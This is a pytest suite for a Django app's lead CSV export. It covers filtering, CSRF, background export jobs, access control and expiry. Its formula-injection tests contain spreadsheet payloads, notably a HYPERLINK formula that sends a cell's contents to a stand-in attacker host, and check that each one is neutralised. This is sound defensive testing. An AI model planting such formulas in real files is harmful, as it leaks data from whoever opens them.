"""The inbox's "Export CSV": the leads the current filters show, streamed, with formula
injection neutralised; a large export written by a worker with progress, its link e-mailed,
downloaded by members only, and deleted after a week."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.files.storage import default_storage, storages
from django.utils import timezone
from django_tenants.utils import schema_context

from exports import services
from exports.lead_csv import HEADERS, cell
from exports.models import ExportStatus, LeadExport
from exports.services import lead_exports_expire
from exports.tasks import lead_export_task
from leads.models import Conversation
from leads.services.sales import lead_outcome_record
from tests.factories import LeadFactory
from tests.leads.conversations import LEAD_B, converse, discovery_form

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    storages["default"].__dict__.pop("relative_media_root", None)
    yield tmp_path
    storages["default"].__dict__.pop("relative_media_root", None)


@pytest.fixture
def export_url(workspace_a):
    return f"/w/{workspace_a.slug}/exports/leads.csv"


def _rows(content: bytes) -> list[dict]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only after a byte order mark
    return list(csv.DictReader(io.StringIO(text[1:])))


def _streamed(response) -> bytes:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="alpha-corp-leads-')
    return b"".join(response.streaming_content)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Acme = good", "Acme = good"),
        ("", ""),
        (None, ""),
        (-15, -15),  # a score Parley computed stays a number
    ],
)
def test_cells_that_would_start_a_formula_are_made_text(value, safe):
    assert cell(value) == safe


def test_the_export_has_every_column_of_a_qualified_lead(
    owner_client, owner, workspace_a, export_url, django_capture_on_commit_callbacks
):
    form = discovery_form(workspace_a)
    with schema_context(workspace_a.schema_name):
        with django_capture_on_commit_callbacks(execute=True):
            conversation = converse(workspace_a, form, LEAD_B)
        Conversation.objects.filter(pk=conversation.pk).update(
            utm={"utm_source": "newsletter", "utm_medium": "email", "utm_campaign": "spring"}
        )
        lead = conversation.lead
        lead_outcome_record(lead=lead, kind="won", by=owner, amount=Decimal("6000"), currency="EUR")

    [row] = _rows(_streamed(owner_client.post(export_url)))

    assert list(row) == HEADERS
    assert row["id"] == str(lead.pk)
    assert row["email"] == "b@pme-services.example"
    assert row["job_title"] == "Manager"
    assert row["status"] == "sql"
    assert row["band"] == "hot"
    assert row["budget"] == "confirmed"
    assert row["timing"] == "quarter"
    assert row["problem"]
    assert (row["utm_source"], row["utm_medium"], row["utm_campaign"]) == (
        "newsletter",
        "email",
        "spring",
    )
    assert (row["outcome"], row["outcome_amount"], row["outcome_currency"]) == (
        "won",
        "6000.00",
        "EUR",
    )


def test_the_export_keeps_the_inbox_filters_and_leaves_hidden_leads_out(
    owner_client, workspace_a, export_url
):
    with schema_context(workspace_a.schema_name):
        LeadFactory(full_name="Ada Lovelace", company="Analytical")
        LeadFactory(full_name="Grace Hopper", company="Navy")
        LeadFactory(full_name="Ada Hidden", company="Analytical", over_quota=True)

    everyone = _rows(_streamed(owner_client.post(export_url)))
    searched = _rows(_streamed(owner_client.post(export_url, {"query": "q=Ada&cursor=junk"})))

    assert sorted(row["name"] for row in everyone) == ["Ada Lovelace", "Grace Hopper"]
    assert [row["name"] for row in searched] == ["Ada Lovelace"]


def test_a_lead_named_like_a_formula_is_exported_as_text(owner_client, workspace_a, export_url):
    with schema_context(workspace_a.schema_name):
        LeadFactory(full_name='=HYPERLINK("http://evil.example/?"&A1,"click")', company="@evil")

    [row] = _rows(_streamed(owner_client.post(export_url)))

    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["company"] == "'@evil"


def test_an_export_is_a_post_with_csrf(member, workspace_a, export_url):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(member)

    assert client.post(export_url).status_code == 403
    assert client.get(export_url).status_code == 405


def test_the_streamed_export_reads_the_leads_in_a_constant_number_of_queries(
    owner_client, workspace_a, export_url, django_assert_max_num_queries
):
    with schema_context(workspace_a.schema_name):
        LeadFactory.create_batch(30)

    # Session, user, membership, the members for the assignee filter, the count, the rows (a
    # server-side cursor: its declaration, fetch and close), whatever the number of leads.
    with django_assert_max_num_queries(12):
        content = _streamed(owner_client.post(export_url))

    assert len(_rows(content)) == 30


# --- A large export --------------------------------------------------------------------------


@pytest.fixture
def small_stream(monkeypatch):
    """Leads past 2 go to a worker (STREAM_MAX is 5,000), and progress is counted every 2."""
    monkeypatch.setattr(services, "STREAM_MAX", 2)
    monkeypatch.setattr(services, "PROGRESS_EVERY", 2)


def test_a_large_export_is_written_by_a_worker_and_its_link_emailed(
    owner_client,
    owner,
    workspace_a,
    export_url,
    small_stream,
    mailoutbox,
    django_capture_on_commit_callbacks,
):
    with schema_context(workspace_a.schema_name):
        LeadFactory.create_batch(5)

    with django_capture_on_commit_callbacks(execute=True):
        response = owner_client.post(export_url)

    with schema_context(workspace_a.schema_name):
        export = LeadExport.objects.get()
        assert default_storage.exists(export.file_name)
    assert response.status_code == 302
    assert response["Location"] == f"/w/{workspace_a.slug}/exports/{export.pk}/"
    assert (export.status, export.total, export.done) == (ExportStatus.DONE, 5, 5)
    assert export.requested_by_email == owner.email
    [message] = mailoutbox
    assert message.to == [owner.email]
    assert f"/w/{workspace_a.slug}/exports/{export.pk}/" in message.body

    page = owner_client.get(response["Location"])
    assert b"Download the CSV" in page.content
    download = owner_client.get(f"/w/{workspace_a.slug}/exports/{export.pk}/download/")
    assert download.status_code == 200
    assert download["Cache-Control"] == "private, no-store"
    assert len(_rows(b"".join(download.streaming_content))) == 5


def test_a_running_export_shows_its_progress(owner_client, workspace_a):
    with schema_context(workspace_a.schema_name):
        export = LeadExport.objects.create(status=ExportStatus.RUNNING, total=8000, done=2000)

    page = owner_client.get(f"/w/{workspace_a.slug}/exports/{export.pk}/")

    assert b"2000 of 8000 leads (25 %)" in page.content
    assert b'http-equiv="refresh"' in page.content
    download = owner_client.get(f"/w/{workspace_a.slug}/exports/{export.pk}/download/")
    assert download.status_code == 404


def test_any_member_downloads_but_an_outsider_gets_404(
    owner_client,
    member_client,
    outsider_client,
    workspace_a,
    export_url,
    small_stream,
    django_capture_on_commit_callbacks,
):
    with schema_context(workspace_a.schema_name):
        LeadFactory.create_batch(3)
    with django_capture_on_commit_callbacks(execute=True):
        owner_client.post(export_url)
    with schema_context(workspace_a.schema_name):
        export = LeadExport.objects.get()
    url = f"/w/{workspace_a.slug}/exports/{export.pk}/download/"

    assert member_client.get(url).status_code == 200
    assert outsider_client.get(url).status_code == 404


def test_the_export_task_refuses_the_public_schema(workspace_a):
    with schema_context(workspace_a.schema_name):
        export = LeadExport.objects.create()

    assert lead_export_task(export.pk) is False


def test_exports_older_than_a_week_are_deleted_with_their_file(workspace_a):
    with schema_context(workspace_a.schema_name):
        old_name = default_storage.save("exports/old.csv", io.BytesIO(b"old"))
        new_name = default_storage.save("exports/new.csv", io.BytesIO(b"new"))
        old = LeadExport.objects.create(
            status=ExportStatus.DONE,
            file_name=old_name,
            created_at=timezone.now() - timedelta(days=8),
        )
        new = LeadExport.objects.create(status=ExportStatus.DONE, file_name=new_name)

        assert lead_exports_expire() == 1

        assert not LeadExport.objects.filter(pk=old.pk).exists()
        assert LeadExport.objects.filter(pk=new.pk).exists()
        assert not default_storage.exists(old_name)
        assert default_storage.exists(new_name)
